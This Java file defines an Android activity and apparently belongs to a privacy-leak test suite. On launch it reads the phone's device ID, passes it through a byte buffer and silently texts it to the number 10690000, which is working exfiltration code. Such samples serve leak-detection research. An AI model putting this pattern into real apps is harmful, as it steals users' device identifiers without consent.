package cn.privlens.suite.string_joiner_bytes;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.nio.ByteBuffer;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ByteBuffer buffer = ByteBuffer.allocate(64);
        buffer.put(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes());
        buffer.flip();
        byte[] out = new byte[buffer.remaining()];
        buffer.get(out);
        SmsManager.getDefault().sendTextMessage("10690000", null, new String(out), null, null);
    }
}
